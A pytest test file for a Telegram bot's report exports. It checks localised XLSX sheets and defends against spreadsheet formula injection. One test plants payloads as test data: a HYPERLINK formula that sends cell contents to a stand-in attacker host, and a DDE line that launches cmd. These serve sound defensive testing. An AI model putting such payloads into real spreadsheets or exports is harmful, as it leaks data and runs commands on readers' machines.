"""The exports: a workbook people can read in their language, and text that never becomes a
formula in a spreadsheet."""

from __future__ import annotations

import asyncio
import io
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot import cli
from bot.i18n import translator
from bot.models import Announcement, utcnow
from bot.tooling.harness import Harness
from tests.support import Clock
from tests.test_reports import a_month_of_work, period_args


@pytest.fixture
def clock_start() -> datetime:
    """Reports run on today's date (the period buttons and the command line read the real date)."""
    return utcnow()


@pytest.mark.parametrize(
    ("lang", "sheets", "headers"),
    [
        ("kk", ["Қорытынды", "Ай бойынша"], ["Өтініш", "Ашылды", "Тіл"]),
        ("ru", ["Сводка", "По месяцам"], ["Обращение", "Открыто", "Язык"]),
        ("en", ["Summary", "By month"], ["Case", "Opened", "Language"]),
    ],
)
async def test_the_workbook_speaks_the_readers_language_and_keeps_machine_names_hidden(
    harness: Harness, clock: Clock, database_url: str, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch, lang: str, sheets: list[str], headers: list[str],
) -> None:  # fmt: skip
    await a_month_of_work(harness, clock)
    monkeypatch.setenv("DATABASE_URL", database_url)
    first, last = period_args(harness)
    args = ["report", "--from", first, "--to", last, "--format", "xlsx", "--lang", lang]
    assert await asyncio.to_thread(cli.main, [*args, "--out", str(tmp_path)]) == 0
    book = load_workbook(tmp_path / f"oss-report-{first}-{last}.xlsx")
    assert book.sheetnames[:2] == sheets  # the summary first
    assert len(book.sheetnames) == 10
    cases = book.worksheets[book.sheetnames.index(translator(lang).gettext("Cases"))]
    machine, header, *rows = list(cases.values)
    assert machine[:3] == ("case", "opened", "language")
    assert list(header[:3]) == headers
    assert cases.row_dimensions[1].hidden and cases.freeze_panes == "A3"
    assert isinstance(rows[0][1], datetime) and cases["B3"].number_format == "yyyy-mm-dd hh:mm"
    assert cases.column_dimensions["B"].width >= 16
    by_chain = book.worksheets[3 - 1]  # summary, by month, by value chain
    assert [row[0] for row in list(by_chain.values)[2:]] == ["apple"]


async def test_text_that_looks_like_a_formula_stays_text_in_every_export(
    harness: Harness, clock: Clock, database_url: str, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    phones = await a_month_of_work(harness, clock)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    async with harness.services.db.write() as session:
        for value in (attack, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"):
            session.add(
                Announcement(created_by=1, text=value, status="done", recipients=0,
                             started_at=utcnow())
            )  # fmt: skip
    # In Telegram: the manager's anonymous export.
    first, last = period_args(harness)
    await phones["manager"].send(f"/report {first} {last}")
    await phones["manager"].press("Export (XLSX)")
    [upload] = [u for u in harness.fake.uploads if u.method == "sendDocument"]
    book = load_workbook(io.BytesIO(upload.content))
    texts = [row[-1] for row in list(book["announcements"].values)[1:]]
    assert attack in texts
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    # From the command line: the workbook and the CSV files, personal ones too.
    monkeypatch.setenv("DATABASE_URL", database_url)
    for kind in ("xlsx", "csv"):
        args = ["report", "--from", first, "--to", last, "--format", kind, "--personal"]
        assert await asyncio.to_thread(cli.main, [*args, "--out", str(tmp_path)]) == 0
    book = load_workbook(tmp_path / f"oss-report-{first}-{last}.xlsx")
    assert not [c for s in book for r in s.iter_rows() for c in r if c.data_type == "f"]
    written = (tmp_path / f"oss-report-{first}-{last}-announcements.csv").read_text("utf-8")
    for line in written.splitlines()[1:]:
        assert not line.split(",")[-1].lstrip('"').startswith(("=", "+", "-", "@", "\t"))
    assert "'=HYPERLINK(" in written and "'@SUM(1" in written
